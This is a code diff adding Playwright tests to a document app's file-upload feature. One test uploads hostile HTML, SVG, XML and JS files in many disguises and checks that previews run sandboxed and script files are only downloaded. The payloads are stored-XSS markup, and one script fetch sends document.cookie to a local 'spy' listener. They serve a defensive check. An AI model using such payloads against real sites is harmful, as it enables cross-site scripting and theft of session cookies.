@@ -1,4 +1,6 @@
 /** The file of a document: uploaded or grabbed in its form, and read beside it and beside the form of a fact, by pointer and by keyboard. */
+import { once } from 'node:events';
+import { createServer } from 'node:net';
 import { expect, test, type Page } from '@playwright/test';
 import { expectAccessible, signIn } from './support.ts';
 
@@ -85,4 +87,149 @@ test('a file is uploaded in the form of a document and read beside it and beside
   await page.reload();
   await page.getByRole('button', { name: 'Show preview' }).click();
   await expect(divider).toHaveAttribute('aria-valuenow', '73');
+});
+
+/** What a file would betray its reader with: `spy` hears each connection, whether anything is asked on it or not. */
+const hostile = (spy: string) => `<head><meta http-equiv="refresh" content="0;url=${spy}/refresh">
+<link rel="preconnect" href="${spy}"><link rel="stylesheet" href="${spy}/sheet"><link rel="prefetch" href="${spy}/next"><base href="${spy}/">
+<style>@import "${spy}/import"; body { background: u\\72l(${spy}/background) }</style></head>
+<body onload="document.title='acted'"><h1>2,310 people displaced</h1><img src="${spy}/pixel"><img src="x" onerror="document.title='acted'">
+<iframe src="${spy}/frame"></iframe><video src="${spy}/film" autoplay></video><svg><image href="${spy}/svg"/></svg>
+<script>document.title = 'acted'; fetch('${spy}/script?' + document.cookie + localStorage.length)</script></body>`;
+
+test('no file of any kind acts on our site, asks for anything or learns who reads it', async ({ page, context }) => {
+  await signIn(page, 'expert');
+  let heard = 0;
+  const server = createServer((socket) => {
+    heard += 1;
+    socket.on('error', () => undefined).end('HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nhi');
+  }).listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const address = server.address();
+  const spy = `http://127.0.0.1:${typeof address === 'object' && address !== null ? address.port : 0}`;
+  const words = hostile(spy);
+  const upload = async (name: string, content: string | Buffer): Promise<string> => {
+    const answer = await page.request.post('/upload/file', {
+      multipart: {
+        uuid: '0f6c1a52-9a3e-4b1c-8d0e-3b8a1d9c7e11',
+        file: { name, mimeType: 'text/html', buffer: Buffer.from(content) },
+      },
+    });
+    expect(answer.status(), await answer.text()).toBe(200);
+    return `/upload/files/${((await answer.json()) as { filename: string }).filename}?preview`;
+  };
+  const other = await context.newPage();
+  const shown: [string, string | Buffer][] = [
+    ['page.html', `<html>${words}</html>`],
+    ['page.pdf', `\ufeff<!doctype html>${words}`],
+    ['page.html', Buffer.from(`\ufeff<html>${words}`, 'utf16le')],
+    ['page.xhtml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${words}</html>`],
+    ['mail.eml', `From: a@example.org\nContent-Type: text/html\n\n${words}`],
+    [
+      'page.mhtml',
+      `MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n${words}\n--b--\n`,
+    ],
+  ];
+  for (const [name, content] of shown) {
+    await other.goto(await upload(name, content));
+    await expect(other.getByRole('heading', { name: '2,310 people displaced' })).toBeVisible();
+    const seen = await other.evaluate(() => {
+      const read = (what: () => unknown) => {
+        try {
+          return String(what());
+        } catch {
+          return 'refused';
+        }
+      };
+      return [self.origin, read(() => document.cookie), read(() => localStorage.length), document.title];
+    });
+    expect([name, ...seen]).toEqual([name, 'null', 'refused', 'refused', '']);
+    expect(other.url()).toContain('?preview');
+  }
+  const saved: [string, string][] = [
+    [
+      'drawing.svg',
+      `<svg xmlns="http://www.w3.org/2000/svg"><script>document.title='acted'</script><image href="${spy}/a"/></svg>`,
+    ],
+    [
+      'data.xml',
+      `<?xml version="1.0"?><?xml-stylesheet href="${spy}/x.xsl"?><a><script xmlns="http://www.w3.org/1999/xhtml">1</script></a>`,
+    ],
+    ['code.js', `document.title = 'acted'`],
+    ['notes.html', 'no page at all'],
+  ];
+  for (const [name, content] of saved) {
+    const address = await upload(name, content);
+    const download = page.waitForEvent('download');
+    // The page that asked stays what it was.
+    await page.evaluate((to) => void (window.location.href = to), address);
+    expect((await download).suggestedFilename()).toMatch(name.split('.')[0] ?? '');
+  }
+  // No script of ours either can run what was uploaded as one.
+  const script = await upload('code.js', `document.title = 'acted'`);
+  const outcome = await page.evaluate(
+    (src) =>
+      new Promise((resolve) => {
+        const element = document.createElement('script');
+        element.src = src;
+        element.addEventListener('load', () => resolve('ran'));
+        element.addEventListener('error', () => resolve('refused'));
+        document.head.append(element);
+      }),
+    script,
+  );
+  expect([outcome, await page.title()]).toEqual(['refused', expect.not.stringContaining('acted')]);
+  expect(heard).toBe(0);
+  // It would have been heard.
+  await other.goto(`${spy}/`);
+  expect(heard).toBeGreaterThan(0);
+  server.close();
+});
+
+test('an upload that fails is tried again, one on its way is waited for or cancelled, and the form keeps everything', async ({
+  page,
+}) => {
+  await signIn(page, 'expert');
+  const { id } = await newDocument(page, 'Report with trouble');
+  await page.goto(`/documents/${id}`);
+  const field = page.getByRole('group', { name: 'File' });
+  await page.getByLabel('URL', { exact: true }).fill('https://www.example.org/typed');
+  const refused = {
+    constraint: 'storage_full',
+    message:
+      'There is no room left for files: nothing was kept. What you typed is not lost; please tell an administrator.',
+  };
+  await page.route('**/upload/file', (route) => route.fulfill({ status: 507, json: refused }), { times: 1 });
+  const csv = { name: 'نازحون 2025.csv', mimeType: 'text/csv', buffer: Buffer.from('البلد,العدد\nاليمن,12\n') };
+  const drop = await page.evaluateHandle(
+    ({ name, text }) => {
+      const transfer = new DataTransfer();
+      transfer.items.add(new File([text], name, { type: 'text/csv' }));
+      return transfer;
+    },
+    { name: csv.name, text: csv.buffer.toString() },
+  );
+  await field.dispatchEvent('dragover', { dataTransfer: drop });
+  await field.dispatchEvent('drop', { dataTransfer: drop });
+  await expect(field.getByText(`${csv.name} has not been uploaded`)).toBeVisible();
+  await expect(field.getByText(/There is no room left for files/)).toBeVisible();
+  await expectAccessible(page);
+  await field.getByRole('button', { name: 'Try again' }).press('Enter');
+  await expect(page.getByText(`${csv.name} has been uploaded successfully`)).toBeVisible();
+  await expect(previewOf(page).getByRole('cell', { name: 'اليمن' })).toBeVisible();
+
+  // The next one does not arrive until it is cancelled.
+  await page.route('**/upload/file', () => undefined, { times: 1 });
+  await field.getByLabel('Choose a file').setInputFiles({ ...csv, name: 'slow.csv' });
+  await expect(field.getByRole('progressbar', { name: 'Progress of slow.csv' })).toBeVisible();
+  await page.getByRole('button', { name: 'Update' }).click();
+  await expect(page.getByText('The file is still on its way')).toBeVisible();
+  await field.getByRole('button', { name: 'Cancel' }).click();
+  await expect(page.getByText('slow.csv: stopped, nothing was kept')).toBeVisible();
+  await expect(field.getByRole('link', { name: csv.name })).toBeVisible();
+  await page.getByRole('button', { name: 'Update' }).click();
+  await expect(page.getByText('Document has been created/updated')).toBeVisible();
+  await page.reload();
+  await expect(field.getByRole('link', { name: csv.name })).toBeVisible();
+  await expect(page.getByLabel('URL', { exact: true })).toHaveValue('https://www.example.org/typed');
 });
